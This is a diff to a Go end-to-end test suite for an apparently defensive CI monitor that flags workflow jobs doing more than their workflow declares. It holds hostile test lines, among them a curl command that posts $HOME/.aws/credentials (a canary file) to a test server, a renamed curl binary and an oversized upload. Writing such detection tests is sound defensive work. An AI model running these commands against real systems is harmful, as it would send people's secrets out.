@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"os"
@@ -20,6 +21,8 @@ type workflowJob struct {
 	uses  []string // actions that would stand before; the machine has what they bring
 	steps []string
 	files map[string]string
+	// upload is the budget of curl's destinations, which no workflow says.
+	upload string
 }
 
 // Names that point to this machine's own mirrors are told in env, as a
@@ -53,21 +56,38 @@ func jobs(t *testing.T) []workflowJob {
 		}
 	}
 	return []workflowJob{
-		{"npm", []string{"npm", "node"}, []string{"actions/setup-node@v5"}, []string{"npm install --no-audit --no-fund is-number@7.0.0", "node -e 'require(\"is-number\")'"},
-			map[string]string{"package.json": `{"name":"watched","version":"1.0.0"}`}},
-		{"go", []string{"go"}, []string{"actions/setup-go@v6"}, []string{"go vet ./...", "go test ./...", "go build -o watched ."},
-			map[string]string{
+		{
+			name: "npm", needs: []string{"npm", "node"}, uses: []string{"actions/setup-node@v5"},
+			steps: []string{"npm install --no-audit --no-fund is-number@7.0.0", "node -e 'require(\"is-number\")'"},
+			files: map[string]string{"package.json": `{"name":"watched","version":"1.0.0"}`},
+		},
+		{
+			name: "go", needs: []string{"go"}, uses: []string{"actions/setup-go@v6"},
+			steps: []string{"go vet .", "go test .", "go build -o watched ."},
+			files: map[string]string{
 				"go.mod":       "module example.com/watched\n\ngo 1.26\n\nrequire golang.org/x/text v0.43.0\n",
-				"main.go":      "package main\n\nimport (\n\t\"fmt\"\n\n\t\"golang.org/x/text/language\"\n)\n\nfunc main() { fmt.Println(language.English) }\n",
+				"main.go":      "package main\n\nimport (\n\t\"os\"\n\n\t\"golang.org/x/text/language\"\n)\n\nfunc main() { os.Stdout.WriteString(language.English.String()) }\n",
 				"main_test.go": "package main\n\nimport \"testing\"\n\nfunc TestMain(t *testing.T) {}\n",
-			}},
-		{"apt", []string{"apt-get"}, nil, []string{"apt-get install -y --no-install-recommends --reinstall hello"}, nil},
-		{"git", []string{"git"}, nil, []string{"git clone -q file://" + repo + " clone", "git -C clone -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m more", "git -C clone log --oneline | wc -l"}, nil},
-		{"make", []string{"make", "cc"}, nil, []string{"make -j2 all"},
-			map[string]string{
+			},
+		},
+		{
+			name: "apt", needs: []string{"apt-get"},
+			steps: []string{"apt-get install -y --no-install-recommends --reinstall hello"},
+		},
+		{
+			name: "git", needs: []string{"git"},
+			steps: []string{
+				"git clone -q file://" + repo + " clone", "git -C clone -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m more",
+				"git -C clone log --oneline | wc -l",
+			},
+		},
+		{
+			name: "make", needs: []string{"make", "cc"}, steps: []string{"make -j2 all"},
+			files: map[string]string{
 				"Makefile":  "all: watched\nwatched: watched.c\n\tcc -O1 -o $@ $<\n\t./watched > out.txt\n",
 				"watched.c": "#include <stdio.h>\nint main(void) { puts(\"made\"); return 0; }\n",
-			}},
+			},
+		},
 	}
 }
 
@@ -101,6 +121,22 @@ func (j *workflowJob) run(t *testing.T, more string) *watched {
 			t.Fatal(err)
 		}
 	}
+	if j.upload != "" {
+		policy, err := exec.Command(binary, "intent", "derive", file).Output()
+		if err != nil {
+			t.Fatal(err)
+		}
+		file = filepath.Join(t.TempDir(), "posture.yml")
+		text := strings.ReplaceAll(string(policy), "by: [curl]}", "by: [curl], upload: "+j.upload+"}")
+		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// What the standard library compiles to is not this test's.
+	cache, err := exec.Command("go", "env", "GOCACHE").Output()
+	if err != nil {
+		t.Fatal(err)
+	}
 	home := t.TempDir()
 	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o700); err != nil {
 		t.Fatal(err)
@@ -108,7 +144,7 @@ func (j *workflowJob) run(t *testing.T, more string) *watched {
 	if err := os.WriteFile(filepath.Join(home, ".aws", "credentials"), []byte("[default]\naws_secret_access_key = canary\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	o := options{in: in, flags: []string{"--intent", file}, env: []string{"HOME=" + home, "GOFLAGS=-mod=mod", "CGO_ENABLED=0", "GOPATH=" + filepath.Join(home, "go"), "DEBIAN_FRONTEND=noninteractive"}}
+	o := options{in: in, flags: []string{"--intent", file, "--job", j.name}, env: []string{"HOME=" + home, "GOFLAGS=-mod=mod", "CGO_ENABLED=0", "GOPATH=" + filepath.Join(home, "go"), "GOCACHE=" + strings.TrimSpace(string(cache)), "DEBIAN_FRONTEND=noninteractive"}}
 	for k, v := range env {
 		o.env = append(o.env, k+"="+v)
 	}
@@ -135,30 +171,46 @@ func TestJobsThatDoWhatTheirWorkflowSaysHaveNoFinding(t *testing.T) {
 	}
 }
 
-// One line that the workflow does not have fails each of them.
+// One line that the workflow does not have fails a job: each job with another
+// kind of line.
 func TestOneHostileLineFailsAJob(t *testing.T) {
 	need(t, "curl", "ip")
 	addr := address(t)
-	serve(t, listener(t, addr+":8000"), http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "ok") }))
-	lines := map[string]struct{ line, told string }{
-		"a new host":                 {"curl -s http://" + addr + ":8000/ > /dev/null", addr + ":8000"},
-		"a credential read and sent": {"curl -s --data-binary @$HOME/.aws/credentials http://" + addr + ":8000/ > /dev/null", "chain"},
-		"a write outside":            {"cp /bin/true /opt/posture-test-$$; rm -f /opt/posture-test-$$", "/opt/posture-test-"},
-		"an undeclared program":      {"cp /usr/bin/curl ./helper; ./helper -s http://" + addr + ":8000/ > /dev/null", "helper"},
+	serve(t, listener(t, addr+":8000"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = io.Copy(io.Discard, r.Body)
+		fmt.Fprintln(w, "ok")
+	}))
+	to := "http://" + addr + ":8000/"
+	hostile := map[string]struct {
+		what, declared, line, verb, object string
+		upload                             string
+	}{
+		"npm":  {what: "a new host", line: "curl -s " + to, verb: "connect", object: addr + ":8000"},
+		"go":   {what: "a credential read and sent to an allowed host", declared: "curl -s " + to, line: "curl -s --data-binary @$HOME/.aws/credentials " + to, verb: "chain", object: addr + ":8000"},
+		"apt":  {what: "a write outside", line: "cp /bin/true /opt/posture-test; rm -f /opt/posture-test", verb: "write", object: "/opt/posture-test"},
+		"git":  {what: "an undeclared program at an allowed host", declared: "curl -s " + to, line: "cp $(which curl) ./helper; ./helper -s " + to, verb: "connect", object: addr + ":8000"},
+		"make": {what: "a bigger upload", declared: "curl -s " + to, upload: "4KB", line: "head -c 100000 /dev/zero | curl -s --data-binary @- " + to, verb: "upload", object: addr + ":8000"},
 	}
 	for _, j := range jobs(t) {
-		for what, l := range lines {
-			t.Run(j.name+" with "+what, func(t *testing.T) {
-				need(t, j.needs...)
-				w := j.run(t, l.line)
-				w.must(w.verdict.Verdict == "fail", "the verdict is %s, score %d", w.verdict.Verdict, w.verdict.Score)
-				var told []string
-				for _, f := range w.verdict.Undeclared {
-					told = append(told, strings.Join(append([]string{f.Verb, f.Object}, f.Who...), " "))
-				}
-				w.must(anyContains(told, l.told), "%q is not among what is undeclared: %q", l.told, told)
-			})
-		}
+		h := hostile[j.name]
+		t.Run(j.name+" with "+h.what, func(t *testing.T) {
+			need(t, j.needs...)
+			if h.declared != "" {
+				j.steps = append(j.steps, h.declared)
+			}
+			j.upload = h.upload
+			w := j.run(t, h.line)
+			w.must(w.verdict.Verdict == "fail", "the verdict is %s, score %d", w.verdict.Verdict, w.verdict.Score)
+			hit := false
+			for _, f := range w.verdict.Undeclared {
+				hit = hit || f.Verb == h.verb && strings.Contains(f.Object, h.object)
+			}
+			w.must(hit, "%s %s is not among what is undeclared: %+v", h.verb, h.object, w.verdict.Undeclared)
+			out, err := exec.Command(binary, "explain", w.dir).CombinedOutput()
+			if err != nil || !strings.Contains(string(out), h.verb) || !strings.Contains(string(out), h.object) {
+				t.Errorf("explain: %v\n%s", err, out)
+			}
+		})
 	}
 }
 
